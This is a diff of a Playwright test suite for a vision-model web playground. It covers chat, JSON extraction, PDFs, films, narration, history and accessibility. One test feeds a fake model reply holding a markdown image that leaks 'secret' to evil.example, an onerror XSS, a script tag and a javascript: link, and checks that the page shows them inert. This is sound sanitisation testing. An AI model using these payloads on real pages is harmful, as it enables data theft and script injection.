@@ -1,34 +1,30 @@
-"""The playground in Debian's Chromium, on the real server."""
+"""The page in Debian's Chromium, on the real server: every flow as a person goes through it."""
 
 from __future__ import annotations
 
-import base64
 import json
-import os
 import re
 import shutil
 import subprocess
 import sys
-import threading
 from collections.abc import Callable, Iterator
-from http.server import BaseHTTPRequestHandler
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
 import pytest
-import requests
 
-from tests.conftest import running, started
+from tests.chatting import Body, chatting
+from tests.conftest import end, running
+from tests.documents import pdf
 from tests.films import scenes
 from tests.server.test_keys import added
-from tests.serving import Server
-from tests.waiting import PATIENCE_S, until
+from tests.waiting import PATIENCE_S, slow_model, until
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+NODE = shutil.which("node")
 SAMPLES = Path(__file__).parents[1] / "samples"
-
-# Its upload buttons hold the field for the file within them, its empty fields are labelled.
-GRADIOS_OWN = {"nested-interactive", "aria-prohibited-attr"}
+PARTS = ("Chat", "Compare", "Narrate")
 
 pytestmark = [
     pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
@@ -48,21 +44,32 @@ def browser() -> Iterator[Any]:
     with sync_playwright() as playwright:
         made = playwright.chromium.launch(
             executable_path=CHROMIUM,
-            args=["--no-sandbox", "--autoplay-policy=no-user-gesture-required"],
-        )
+            args=[
+                "--no-sandbox", "--autoplay-policy=no-user-gesture-required",
+                "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream",
+            ],
+        )  # fmt: skip
         yield made
         made.close()
 
 
-def opened(browser: Any, url: str, width: int = 1280) -> Any:
-    page = browser.new_page()
-    page.set_viewport_size({"width": width, "height": 1000})
+@contextmanager
+def opened(browser: Any, url: str, width: int = 1280, **options: Any) -> Iterator[Any]:
+    """Open the page at a server; see that nothing went elsewhere, broke or was held up."""
+    context = browser.new_context(viewport={"width": width, "height": 860}, **options)
+    page = context.new_page()
     page.set_default_timeout(1000 * PATIENCE_S)
-    page.outside = []
-    page.on("request", lambda r: page.outside.append(r.url) if not _is_own(r.url) else None)
-    page.goto(f"{url}/playground/")
-    page.locator("#ask-send").wait_for()
-    return page
+    outside: list[str] = []
+    wrong: list[str] = []
+    page.on("request", lambda r: outside.append(r.url) if not _is_own(r.url) else None)
+    page.on("pageerror", lambda error: wrong.append(str(error)))
+    page.on("console", lambda m: wrong.append(m.text) if "Policy" in m.text else None)
+    page.goto(f"{url}/")
+    page.locator(".composer select option").first.wait_for(state="attached")
+    yield page
+    assert outside == []
+    assert wrong == []
+    context.close()
 
 
 def _is_own(url: str) -> bool:
@@ -71,10 +78,8 @@ def _is_own(url: str) -> bool:
 
 @pytest.fixture
 def page(browser: Any, server: str) -> Iterator[Any]:
-    made = opened(browser, server)
-    yield made
-    assert made.outside == []  # nothing comes from elsewhere, and nothing goes there
-    made.close()
+    with opened(browser, server) as made:
+        yield made
 
 
 @pytest.fixture
@@ -84,246 +89,505 @@ def pictured(pytestconfig: pytest.Config) -> Callable[[Any, str], None]:
 
     def write(page: Any, name: str) -> None:
         if folder is not None:
-            page.set_viewport_size({"width": 1200, "height": 800})
-            page.screenshot(path=Path(folder) / f"{name}.png", full_page=True)
+            page.set_viewport_size({"width": 1280, "height": 800})
+            page.screenshot(path=Path(folder) / f"{name}.png")
 
     return write
 
 
-def press(page: Any, where: str) -> None:
-    # By keyboard: what comes above a button while it is clicked moves it away.
-    page.locator(where).press("Enter")
+def brought(page: Any, *files: str | Path) -> None:
+    page.locator(".part:not([hidden]) input[type=file]").set_input_files([str(f) for f in files])
 
 
-def drop(page: Any, where: str, *names: str | Path) -> None:
-    page.locator(f"{where} input[type=file]").first.set_input_files([str(n) for n in names])
+def asked(page: Any, question: str) -> None:
+    page.get_by_role("textbox", name="Question").fill(question)
+    page.get_by_role("button", name="Send").click()
 
 
-def test_a_picture_is_asked_about_and_talked_about(
-    page: Any, pictured: Callable[[Any, str], None]
-) -> None:
-    drop(page, "#ask-pictures", SAMPLES / "sign.png")
-    page.locator("#ask-cost").get_by_text("800 × 420, seen as 800 × 420").wait_for()
-    page.get_by_label("Question").first.fill("What does it say?")
-    press(page, "#ask-send")
-    page.locator("#ask-chat").get_by_text("MAPLE AVENUE").wait_for()
-    page.locator("#ask-spent").get_by_text("for pictures").wait_for()
-    pictured(page, "playground-ask")
-    page.get_by_text("The request").click()
-    shown = page.locator(".cm-content").first.inner_text()
-    assert "/v1/chat/completions" in shown
-    assert '"What does it say?"' in shown
-    page.get_by_label("Question").first.fill("Which colours does it have?")
-    press(page, "#ask-send")
-    page.locator("#ask-chat").get_by_text(re.compile("green", re.IGNORECASE)).first.wait_for()
+def answer(page: Any, number: int = -1) -> Any:
+    """The answer, once it is whole."""
+    found = page.get_by_role("article", name="Answer", exact=True)
+    shown = found.last if number < 0 else found.nth(number)
+    shown.locator(".spent").wait_for()
+    return shown
 
 
-def test_attributes_come_as_json(page: Any) -> None:
-    drop(page, "#ask-pictures", SAMPLES / "receipt.png")
-    page.locator("#ask-cost").get_by_text("tokens").first.wait_for()
-    page.locator("#ask-attributes textarea").fill("- total: the total\n- date: the date")
-    press(page, "#ask-send")
-    code = page.locator("#ask-chat code").first
-    code.get_by_text("total").first.wait_for()
-    page.locator("#ask-spent").get_by_text("out;").wait_for()
-    assert set(json.loads(code.inner_text())) == {"total", "date"}
+def accessible(page: Any, where: str) -> None:
+    """See that axe finds nothing, by any of its rules, and that nothing is cut off at the side."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    wide, width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
+    assert wide <= width, where
+    found = Axe().run(page).response["violations"]
+    wrong = {v["id"]: [node["html"] for node in v["nodes"]] for v in found}
+    assert wrong == {}, where
 
 
-def test_errors_are_sentences(page: Any, tmp_path: Path) -> None:
-    press(page, "#ask-send")
-    page.get_by_text("There is no picture. Drop one, paste one or give a URL.").wait_for()
-    # What is typed is never a path on the server.
-    page.get_by_label("Or by URL, one a line").fill(str(SAMPLES / "sign.png"))
-    page.locator("#ask-cost").get_by_text("That is not a URL.").wait_for()
-    press(page, "#ask-send")
-    page.get_by_text("That is not a URL. It begins with http").last.wait_for()
-    page.get_by_label("Or by URL, one a line").fill("")
+def test_an_example_is_answered_at_a_click(page: Any, pictured: Callable[[Any, str], None]) -> None:
+    page.get_by_role("button", name=re.compile("^A receipt What is the total")).click()
+    said = answer(page)
+    assert "$16.20" in said.inner_text()
+    assert re.search(r"\d+ tokens in \(490 for pictures\), \d+ out · \d+\.\d s", said.inner_text())
+    # What was said is linked to where it stands.
+    said.get_by_role("button", name="$16.20").click()
+    box = page.locator(".box.evidence.on")
+    picture = page.locator(".frame img").bounding_box()
+    place = box.bounding_box()
+    assert (place["x"] - picture["x"]) / picture["width"] > 0.65  # at the right, near the bottom
+    assert 0.7 < (place["y"] - picture["y"]) / picture["height"] < 0.85
+    pictured(page, "playground-chat")
+    page.get_by_role("button", name="Evidence").click()
+    assert page.locator(".box").count() == 0
+
+
+def test_a_conversation_goes_on_is_changed_and_asked_again(page: Any) -> None:
+    brought(page, SAMPLES / "sign.png")
+    page.locator(".cost").get_by_text("tokens").wait_for()
+    page.locator(".facts").get_by_text("800 × 420, seen as 800 × 420 · 420 tokens").wait_for()
+    asked(page, "What does it say?")
+    assert "MAPLE AVENUE" in answer(page).inner_text()
+    asked(page, "Which colours does it have?")
+    assert "green" in answer(page, 1).inner_text().lower()
+    page.get_by_role("button", name="Retry").last.click()
+    assert "green" in answer(page, 1).inner_text().lower()
+    page.get_by_role("article", name="Question").first.hover()
+    page.get_by_role("button", name="Change the question").first.click()
+    page.get_by_role("textbox", name="The question, changed").fill("How large is the picture?")
+    page.get_by_role("button", name="Ask again").click()
+    page.get_by_text("How large is the picture?").wait_for()
+    assert "800" in answer(page).inner_text()
+    assert (
+        page.get_by_role("article", name="Answer", exact=True).count() == 1
+    )  # what came later is gone
+    page.get_by_role("button", name="New conversation").click()
+    page.get_by_role("heading", name="Ask about pictures").wait_for()
+
+
+def test_pictures_are_dropped_pasted_taken_and_named_by_url(page: Any) -> None:
+    page.evaluate(
+        """async () => {
+            const made = async (name) => {
+                const data = await (await fetch(`examples/${name}.webp`)).blob();
+                return new File([data], `${name}.webp`, { type: "image/webp" });
+            };
+            const dropped = new DataTransfer();
+            dropped.items.add(await made("before"));
+            dropped.items.add(await made("after"));
+            const options = { bubbles: true, cancelable: true };
+            document.body.dispatchEvent(new DragEvent("drop", { ...options, dataTransfer: dropped }));
+            const pasted = new DataTransfer();
+            pasted.items.add(await made("chart"));
+            document.body.dispatchEvent(
+                new ClipboardEvent("paste", { ...options, clipboardData: pasted }));
+        }"""
+    )
+    for name in ("before.webp", "after.webp", "chart.webp"):
+        page.locator(".composer").get_by_role("button", name=f"Open {name}").wait_for()
+    page.get_by_role("button", name="Take a picture").click()
+    page.get_by_role("button", name="Take it").wait_for()
+    until(lambda: page.locator("video.camera").evaluate("v => v.videoWidth") > 0)
+    page.get_by_role("button", name="Take it").click()
+    page.locator(".composer").get_by_role("button", name="Open camera.jpg").wait_for()
+    page.get_by_role("button", name="Add by URL").click()
+    field = page.get_by_role("textbox", name="Address of a picture")
+    field.fill("/etc/passwd")
+    page.get_by_role("button", name="Add", exact=True).click()
+    # The browser's own check of the field, or ours: neither adds it.
+    assert page.locator(".composer .thumb").count() == 4
+    field.fill("https://example.invalid/one.jpg")
+    page.get_by_role("button", name="Add", exact=True).click()
+    page.locator(".composer").get_by_role("button", name="Open one.jpg").wait_for()
+    # Each opens whole, and can be taken out again.
+    page.locator(".composer").get_by_role("button", name="Open chart.webp").click()
+    page.locator(".frame img[alt='chart.webp']").wait_for()
+    page.get_by_role("button", name="Open whole").click()
+    page.get_by_role("dialog", name="chart.webp").wait_for()
+    page.get_by_role("button", name="Next").click()
+    page.get_by_role("dialog", name="camera.jpg").wait_for()
+    page.keyboard.press("Escape")
+    for name in ("chart.webp", "camera.jpg", "one.jpg"):
+        page.get_by_role("button", name=f"Remove {name}").click()
+    asked(page, "What is different?")
+    assert "9:30" in answer(page).inner_text()
+
+
+def test_json_by_a_form_of_fields(page: Any, pictured: Callable[[Any, str], None]) -> None:
+    page.get_by_role("button", name=re.compile("^A receipt as JSON")).click()
+    said = answer(page)
+    said.get_by_text("3 rows").wait_for()
+    said.get_by_role("button", name="Oat Porridge").click()  # a value is linked to its place
+    assert page.locator(".box.evidence.on").get_attribute("title") == "Oat Porridge"
+    said.get_by_role("button", name="Table").click()
+    heads = said.locator("thead th").all_inner_texts()
+    assert heads == ["quantity", "name", "price"]
+    assert said.get_by_role("row").filter(has_text="Blueberry Muffin").count() >= 1
+    pictured(page, "playground-json")
+    said.get_by_role("button", name="JSON", exact=True).click()
+    assert json.loads(said.locator("pre").inner_text())["merchant"] == "HARBOUR CAFE"
+    # The form is a schema that can be written further.
+    page.get_by_role("button", name="As JSON").click()
+    page.get_by_role("button", name="Schema").click()
+    schema = json.loads(page.get_by_role("textbox", name="JSON schema").input_value())
+    assert set(schema["properties"]) == {"merchant", "date", "total", "items"}
+    page.get_by_role("textbox", name="JSON schema").fill("{")
+    page.get_by_role("button", name="Use it").click()
+    page.get_by_text("The schema is not JSON.").wait_for()
+    page.get_by_role("button", name="Fields").click()
+    page.get_by_role("textbox", name="Name").first.fill("date")
+    page.get_by_role("button", name="Use it").click()
+    page.get_by_text("Two fields are named date.").wait_for()
+
+
+def test_json_by_attributes(page: Any) -> None:
+    brought(page, SAMPLES / "receipt.png")
+    page.get_by_role("button", name="As text").click()
+    page.get_by_role("button", name="Attributes").click()
+    page.get_by_role("textbox", name="What the JSON should hold").fill(
+        "- total: the total\n- date: the date"
+    )
+    page.get_by_role("button", name="Use it").click()
+    asked(page, "Read it.")
+    said = answer(page)
+    said.get_by_role("button", name="JSON", exact=True).click()
+    assert set(json.loads(said.locator("pre").inner_text())) == {"total", "date"}
+
+
+def test_tiles_and_cost_follow_the_model_and_the_detail(page: Any) -> None:
+    brought(page, SAMPLES / "poster.png")
+    page.get_by_label("Model").select_option("gpt-4o")
+    page.locator(".facts").get_by_text("in 2 × 2 tiles · 765 tokens").wait_for()
+    page.get_by_role("button", name="Tiles").click()
+    assert page.locator(".tiles i").count() == 2  # a line down, a line across
+    page.get_by_label("Detail").select_option("low")
+    page.locator(".facts").get_by_text("85 tokens").wait_for()
+    assert page.locator(".tiles").count() == 0
+
+
+def test_errors_are_sentences_that_say_what_to_do(page: Any, tmp_path: Path) -> None:
+    assert page.get_by_role("button", name="Send").is_disabled()
+    notes = tmp_path / "notes.txt"
+    notes.write_text("Milk")
+    brought(page, notes)
+    page.get_by_role("alert").get_by_text("notes.txt: neither a picture").wait_for()
     bad = tmp_path / "bad.png"
     bad.write_bytes(b"no picture at all")
-    drop(page, "#ask-pictures", bad)
-    page.locator("#ask-cost").get_by_text("unsupported").wait_for()
-    press(page, "#ask-send")
-    page.get_by_text("The server answered 400").first.wait_for()
+    brought(page, bad)
+    page.get_by_role("alert").get_by_text("unsupported image").wait_for()  # before it is sent
+    page.get_by_role("button", name="Remove bad.png").click()
+    page.get_by_role("alert").wait_for(state="detached")
+    page.get_by_role("button", name="Add by URL").click()
+    page.get_by_role("textbox", name="Address of a picture").fill("http://127.0.0.1:1/a.png")
+    page.get_by_role("button", name="Add", exact=True).click()
+    asked(page, "What is it?")
+    said = answer(page).get_by_role("alert").inner_text()
+    assert "127.0.0.1" not in said.replace("http://127.0.0.1:1/a.png", "")
     assert "Traceback" not in page.content()
 
 
-def test_a_film_is_shown_and_described(page: Any, tmp_path: Path) -> None:
-    page.get_by_role("tab", name="Video").click()
-    drop(page, "#video-film", scenes(tmp_path / "film.mp4"))
-    page.locator("#video-film video").wait_for()
-    press(page, "#video-look")
-    page.locator("#video-told").get_by_text("12 of 180 frames of 12.0 s").wait_for()
-    assert page.locator("#video-strip img").count() >= 8
-    press(page, "#video-send")
-    page.locator("#video-said").get_by_text("It has 4 scenes.").wait_for()
+def test_a_pdf_is_asked_about_page_by_page(page: Any, tmp_path: Path) -> None:
+    file = tmp_path / "letter.pdf"
+    file.write_bytes(pdf(["Invoice 77", "Total: $12.00"], ["Thank you"]))
+    brought(page, file)
+    page.locator(".facts").get_by_text("2 pages").wait_for()
+    page.get_by_role("button", name="Page 2").click()
+    page.get_by_alt_text("Page 2 of letter.pdf").wait_for()
+    asked(page, "What is the total?")
+    answer(page).get_by_role("button", name="12.00").click()
+    page.get_by_alt_text("Page 1 of letter.pdf").wait_for()  # where it stands
+    place, whole = (page.locator(each).bounding_box() for each in (".box.on", ".frame"))
+    assert 0.1 < (place["y"] - whole["y"]) / whole["height"] < 0.25
+    accessible(page, "a PDF")
 
 
-def test_a_film_is_narrated_and_played(
+def test_a_film_is_seen_by_as_many_frames_as_are_wanted(page: Any) -> None:
+    page.get_by_role("button", name=re.compile("^A film")).click()
+    answer(page).get_by_role("button", name="NIGHT").last.click()
+    film = page.locator(".frame video")
+    until(lambda: film.evaluate("v => v.currentTime") > 3.9)
+    page.get_by_label("Frames of a film").select_option("4")
+    page.get_by_role("button", name="Retry").click()
+    page.locator(".facts").get_by_text("4 of 72 frames of 6.0 s").wait_for()
+
+
+def test_a_film_is_described_and_its_times_seek(
     page: Any, tmp_path: Path, pictured: Callable[[Any, str], None]
 ) -> None:
-    page.get_by_role("tab", name="Narrate").click()
-    drop(page, "#narrate-film", scenes(tmp_path / "film.mp4"))
-    page.locator("#narrate-film video").wait_for()
-    press(page, "#narrate-write")
-    page.locator("#narrate-told").get_by_text("3 segments").wait_for()
-    page.locator("#narrate-script").get_by_text("HARBOUR TOWN").last.wait_for()
-    press(page, "#narrate-speak")
-    film = page.locator("#narrate-made video")
+    brought(page, scenes(tmp_path / "film.mp4"))
+    page.locator(".facts").get_by_text("24 of 180 frames of 12.0 s, without sound").wait_for()
+    until(lambda: page.locator(".strip img").count() == 24)
+    asked(page, "What happens?")
+    said = answer(page)
+    said.get_by_role("button", name="8.0 s").first.click()
+    film = page.locator(".frame video")
+    until(lambda: abs(film.evaluate("v => v.currentTime") - 8) < 0.1)
+    page.locator(".box.evidence[title='THE END']").wait_for()
+    page.get_by_role("button", name="Go to 0:02.2").click()
+    until(lambda: abs(film.evaluate("v => v.currentTime") - 2.2) < 0.1)
+    accessible(page, "a film")
+    pictured(page, "playground-film")
+
+
+def test_a_film_is_narrated_by_a_script_that_was_changed(
+    page: Any, tmp_path: Path, pictured: Callable[[Any, str], None]
+) -> None:
+    page.get_by_role("button", name="Narrate").click()
+    page.get_by_role("button", name="Hear onyx").click()
+    page.get_by_role("button", name="Hear onyx").and_(page.locator(":enabled")).wait_for()
+    page.get_by_role("button", name="Take the example").click()
+    page.get_by_label("film.mp4").wait_for()
+    brought(page, scenes(tmp_path / "film.mp4"))
+    page.get_by_role("button", name="Write the script").click()
+    first = page.get_by_role("textbox", name="Text from").first
+    first.wait_for()
+    assert page.get_by_role("textbox", name="Text from").count() >= 2
+    first.fill("A black picture begins it.")
+    page.get_by_role("button", name="Speak the script").click()
+    page.get_by_role("progressbar").wait_for()
+    film = page.get_by_label("The narrated film")
     film.wait_for()
-    page.wait_for_function(
-        "document.querySelector('#narrate-files').innerText.replace(/\\s/g, '').includes('narrated.srt')"
-    )
+    assert first.input_value() == "A black picture begins it."
     film.evaluate("v => { v.muted = true; v.play() }")
-    page.wait_for_function("document.querySelector('#narrate-made video').currentTime > 2")
+    until(lambda: film.evaluate("v => v.currentTime") > 1)
+    accessible(page, "a narrated film")
     pictured(page, "playground-narrate")
+    for name, begins in (
+        ("Film", b""), ("SRT", b"1\n00:00:0"), ("WebVTT", b"WEBVTT\n\n1\n00:00:0"),
+        ("Script", b'{\n  "segments": ['),
+    ):  # fmt: skip
+        with page.expect_download() as given:
+            page.get_by_role("button", name=name, exact=True).click()
+        data = Path(given.value.path()).read_bytes()
+        assert data.startswith(begins)
+        assert len(data) > 100
 
 
 def test_two_answers_side_by_side(page: Any) -> None:
-    page.get_by_role("tab", name="Compare").click()
-    drop(page, "#compare-pictures", SAMPLES / "sign.png")
-    page.locator("#compare-pictures img").first.wait_for()
-    press(page, "#compare-send")
-    for side in ("#compare-one", "#compare-other"):
-        page.locator(side).get_by_text(re.compile(r"tokens in.*out; \d")).wait_for()
+    page.get_by_role("button", name="Compare").click()
+    brought(page, SAMPLES / "poster.png")
+    page.get_by_role("textbox", name="Question to both").fill("When is the event?")
+    one = page.get_by_role("article", name="Answer 1")
+    one.get_by_label("Model").select_option("gpt-4o")
+    page.get_by_role("button", name="Send").click()
+    for side in ("Answer 1", "Answer 2"):
+        shown = page.get_by_role("article", name=side)
+        shown.get_by_text(re.compile(r"tokens in.*out · \d")).wait_for()
+        assert "18 July" in shown.inner_text()
+    accessible(page, "two answers")
 
 
-@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
-def test_everybody_can_use_it(browser: Any, server: str, width: int, scheme: str) -> None:
-    from axe_playwright_python.sync_playwright import Axe
-
-    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
-    page = opened(context, server, width)
-    for tab in ("Ask", "Video", "Narrate", "Compare"):
-        shown = page.get_by_role("tab", name=tab)
-        menu = page.locator(".overflow-menu > button")
-        shown.or_(menu).first.wait_for()
-        if shown.is_visible():
-            shown.click()
-        else:  # what has no room is in a menu
-            menu.click()
-            page.locator(".overflow-dropdown button", has_text=tab).click()
-        page.get_by_role("tabpanel").filter(visible=True).wait_for()
-        assert page.evaluate("document.documentElement.scrollWidth") <= width
-        found = Axe().run(page, options={"runOnly": ["wcag2a", "wcag2aa"]}).response
-        wrong = {
-            v["id"]: [node["html"] for node in v["nodes"]]
-            for v in found["violations"]
-            if v["id"] not in GRADIOS_OWN
-        }
-        assert wrong == {}
-    context.close()
+def test_the_request_works_when_it_is_pasted(browser: Any, server: str, tmp_path: Path) -> None:
+    options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
+    with opened(browser, server, **options) as page:
+        brought(page, SAMPLES / "receipt.png")
+        asked(page, 'What is the total? `$HOME` \\ "it\'s"')
+        answer(page)
+        page.get_by_role("button", name="Code").click()
+        code = {}
+        for name in ("curl", "Python", "JavaScript"):
+            page.get_by_role("button", name=name, exact=True).click()
+            page.get_by_role("dialog").get_by_role("button", name="Copy").click()
+            page.get_by_role("button", name="Copied").wait_for()
+            code[name] = page.evaluate("navigator.clipboard.readText()")
+            assert "…" in page.locator(".code").inner_text()  # shown short, copied whole
+            page.get_by_role("button", name="Copied").wait_for(state="detached")
+    commands = {"curl": ["bash"], "Python": [sys.executable, "-"]}
+    if NODE is not None:
+        commands["JavaScript"] = [NODE, "-"]
+    for name, command in commands.items():
+        done = subprocess.run(command, input=code[name], capture_output=True, text=True, timeout=60)
+        assert "16.20" in done.stdout, (name, done.stderr)
 
 
-def test_stopping_frees_the_engine(browser: Any) -> None:
-    waiting, gone = threading.Event(), threading.Event()
+def test_the_key_that_is_typed_in_is_sent(browser: Any, tmp_path: Path) -> None:
+    key = added(tmp_path, "alice")
+    flags = ("--keys", "required", "--keys-file", str(tmp_path / "keys.sqlite"))
+    with running(*flags) as url:
+        context = browser.new_context()
+        page = context.new_page()
+        page.set_default_timeout(1000 * PATIENCE_S)
+        page.goto(url.removesuffix("/v1") + "/")
+        for typed in ("wrong", key):
+            page.get_by_role("button", name="Enter the key").click()
+            page.get_by_label("API key").fill(typed)
+            page.get_by_role("button", name="Done").click()
+        page.locator(".composer select option").first.wait_for(state="attached")
+        page.get_by_role("button", name=re.compile("^A chart")).click()
+        assert "April" in answer(page).inner_text()
+        page.reload()  # it is this tab's until the tab is closed
+        page.locator(".composer select option").first.wait_for(state="attached")
+        stored = page.evaluate("JSON.stringify(localStorage)")
+        assert key not in stored
+        context.close()
 
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            self._send(200, {"data": [{"id": "slow", "object": "model"}], "object": "list"})
 
-        def do_POST(self) -> None:
-            self.rfile.read(int(self.headers["content-length"]))
-            if self.headers["authorization"] != "Bearer right":
-                error = {"message": "Incorrect API key provided.", "code": "invalid_api_key"}
-                self._send(401, {"error": error})
-                return
-            waiting.set()
-            self.send_response(200)
-            self.send_header("content-type", "text/event-stream")
-            self.end_headers()
-            try:
-                while not gone.wait(0.05):
-                    self.wfile.write(b": still thinking\n\n")
-            except ConnectionError:
-                gone.set()
+def test_history_is_off_until_it_is_wanted(browser: Any, server: str) -> None:
+    with opened(browser, server) as page:
+        page.get_by_role("button", name=re.compile("^A chart")).click()
+        answer(page)
+        page.get_by_role("button", name="New conversation").click()
+        page.get_by_role("button", name="History").click()
+        assert not page.get_by_role("checkbox").is_checked()
+        page.get_by_role("checkbox").check()
+        page.get_by_text("Nothing is kept yet.").wait_for()
+        page.keyboard.press("Escape")
+        page.get_by_role("button", name=re.compile("^A chart")).click()
+        answer(page)
+        page.reload()
+        page.get_by_role("button", name="History").click()
+        with page.expect_download() as given:
+            page.get_by_role("button", name="Export").click()
+        told = json.loads(Path(given.value.path()).read_text())["conversations"][0]
+        assert [turn["role"] for turn in told["turns"]] == ["user", "assistant"]
+        assert told["turns"][0]["files"][0]["url"].startswith("data:image/webp;base64,")
+        page.get_by_role("button", name=re.compile("^Which month")).click()
+        assert "April" in answer(page).inner_text()
+        page.locator(".frame img").wait_for()
+        asked(page, "Which colours does it have?")  # it goes on
+        assert "blue" in answer(page, 1).inner_text().lower()
+        page.get_by_role("button", name="History").click()
+        page.locator(".kept-open").wait_for()
+        page.get_by_role("checkbox").uncheck()
+        page.locator(".kept").wait_for(state="detached")
+        kept = """new Promise((done) => {
+            const opening = indexedDB.open("sightline", 1);
+            opening.onsuccess = () => {
+                const store = opening.result.transaction("conversations").objectStore("conversations");
+                store.count().onsuccess = (event) => done(event.target.result);
+            };
+        })"""
+        until(lambda: page.evaluate(kept) == 0)
 
-        def _send(self, status: int, body: dict[str, Any]) -> None:
-            data = json.dumps(body).encode()
-            self.send_response(status)
-            self.send_header("content-type", "application/json")
-            self.send_header("content-length", str(len(data)))
-            self.end_headers()
-            self.wfile.write(data)
 
-        def log_message(self, *_: Any) -> None:
-            pass
-
-    slow = Server(("127.0.0.1", 0), Handler)
-    slow.daemon_threads = True
-    threading.Thread(target=slow.serve_forever, daemon=True).start()
+@contextmanager
+def alone(base_url: str) -> Iterator[str]:
+    """`sightline playground` before another server; give where it is."""
     process = subprocess.Popen(
         [sys.executable, "-m", "sightline.cli.main", "playground", "--port", "0", "--base-url",
-         f"http://127.0.0.1:{slow.server_address[1]}/v1"],
+         base_url, "--json"],
         stdout=subprocess.PIPE, text=True,
     )  # fmt: skip
     try:
         assert process.stdout is not None
-        url = process.stdout.readline().split()[-1].removesuffix("/playground/")
-        page = opened(browser, url)
-        page.get_by_text("Server", exact=True).click()
-        page.get_by_label("API key").fill("wrong")
-        drop(page, "#ask-pictures", SAMPLES / "sign.png")
-        page.locator("#ask-cost").get_by_text("tokens").first.wait_for()
-        press(page, "#ask-send")
-        page.get_by_text("The server answered 401: Incorrect API key provided.").wait_for()
-        page.get_by_label("API key").fill("right")
-        press(page, "#ask-send")
-        assert waiting.wait(PATIENCE_S)
-        press(page, "#ask-stop")
-        assert gone.wait(PATIENCE_S)
-        page.close()
+        yield json.loads(process.stdout.readline())["url"].removesuffix("/playground/")
     finally:
-        gone.set()
-        process.kill()
-        process.communicate(timeout=60)
-        slow.shutdown()
-        slow.server_close()
+        end(process)
 
 
-def test_what_a_session_left_goes_with_it(browser: Any, tmp_path: Path) -> None:
-    held = tmp_path / "held"
-    held.mkdir()
+HOSTILE = """Look: ![a](http://evil.example/leak.png?q=secret) <img src=x onerror=alert(1)>
+<script>document.title = "broken"</script>
 
-    def files() -> list[str]:
-        # The server's own folder is locked for as long as it runs.
-        # What goes while this looks is no fault: `os.walk` goes on, `rglob` would not.
-        found = (name for _, _, names in os.walk(held) for name in names)
-        return [name for name in found if name != ".sightline.lock"]
+[a link](javascript:alert(1)) and [another](https://example.com/)
 
-    with started(env={**os.environ, "TMPDIR": str(held)}) as (url, _):
-        page = opened(browser, url.removesuffix("/v1"))
-        other = opened(browser, url.removesuffix("/v1"))
-        for each in (page, other):
-            drop(each, "#ask-pictures", SAMPLES / "sign.png")
-            each.locator("#ask-cost").get_by_text("tokens").first.wait_for()
-        page.get_by_label("Show the tiles").check()
-        page.locator("#ask-tiles img").wait_for()
-        page.wait_for_function("document.querySelector('#ask-tiles img').naturalWidth == 800")
-        page.get_by_role("tab", name="Video").click()
-        drop(page, "#video-film", scenes(tmp_path / "film.mp4"))
-        press(page, "#video-look")
-        page.locator("#video-told").get_by_text("12 of 180 frames of 12.0 s").wait_for()
-        assert {"sign.png", "film.mp4"} < set(files())  # and the frames
-        page.close()
-        until(lambda: set(files()) == {"sign.png"}, files)  # the other session has it too
-        other.close()
-        until(lambda: not files(), files)
+| one | two |
+|---|---|
+| **1** | 2 |
+"""
 
 
-def test_a_key_that_the_browser_asked_for_is_used(browser: Any, tmp_path: Path) -> None:
-    key = added(tmp_path, "alice")
-    flags = ("--keys", "required", "--keys-file", str(tmp_path / "keys.sqlite"))
-    sent = "Basic " + base64.b64encode(f":{key}".encode()).decode()
-    with running(*flags) as url:
-        context = browser.new_context(extra_http_headers={"authorization": sent})
-        page = opened(context, url.removesuffix("/v1"))
-        drop(page, "#ask-pictures", SAMPLES / "sign.png")
-        page.locator("#ask-cost").get_by_text("tokens").first.wait_for()
-        press(page, "#ask-send")
-        page.locator("#ask-chat").get_by_text("MAPLE AVENUE").wait_for()
-        context.close()
+def test_an_answer_cannot_run_or_fetch_anything(browser: Any) -> None:
+    with chatting(lambda body: HOSTILE, "other") as base, alone(base) as url, opened(browser, url) as page:  # fmt: skip
+        page.get_by_label("Model").select_option("other")
+        asked(page, "Hello")
+        said = answer(page)
+        assert said.locator("td strong").inner_text() == "1"
+        assert said.locator("img, script").count() == 0
+        assert "<img src=x onerror=alert(1)>" in said.inner_text()  # seen, not done
+        links = said.locator("a").evaluate_all("all => all.map((a) => [a.href, a.rel])")
+        assert ["https://example.com/", "noopener noreferrer"] in links
+        assert not any(href.startswith("javascript") for href, _ in links)
+        assert page.title() == "Sightline"
 
 
-def test_it_can_be_left_out() -> None:
-    with running("--no-playground") as url:
-        assert requests.get(f"{url.removesuffix('/v1')}/playground/", timeout=60).status_code == 404
+def test_stopping_ends_the_work_behind_it(browser: Any) -> None:
+    with slow_model() as slow, alone(slow.url) as url, opened(browser, url) as page:
+        page.get_by_label("Model").select_option("slow")
+        asked(page, "Wait")
+        slow.wait()
+        page.get_by_role("button", name="Stop").click()
+        page.get_by_text("· stopped").wait_for()
+        slow.let_go()
+        page.get_by_role("button", name="Retry").click()
+        slow.wait()
+        slow.let_go()
+        page.get_by_text("re: Wait").wait_for()
+
+
+def test_what_another_server_refuses_is_a_sentence(browser: Any) -> None:
+    def refuse(body: Body) -> tuple[int, Body]:
+        return 400, {"message": "That is too rude.", "code": "refused"}
+
+    with chatting(refuse, "other") as base, alone(base) as url, opened(browser, url) as page:
+        page.get_by_label("Model").select_option("other")
+        asked(page, "Hello")
+        assert answer(page).get_by_role("alert").inner_text().strip()
+        page.get_by_role("button", name="Retry").wait_for()
+
+
+FORMS = [(360, "light"), (360, "dark"), (1280, "light"), (1280, "dark"), (1600, "light")]
+
+
+@pytest.mark.parametrize(("width", "scheme"), FORMS)
+def test_everybody_can_use_it(browser: Any, server: str, width: int, scheme: str) -> None:
+    with opened(browser, server, width, color_scheme=scheme) as page:
+        accessible(page, "first")
+        page.get_by_role("button", name=re.compile("^A receipt as JSON")).click()
+        said = answer(page)
+        for view in ("Tree", "Table", "JSON"):
+            said.get_by_role("button", name=view, exact=True).click()
+            accessible(page, view)
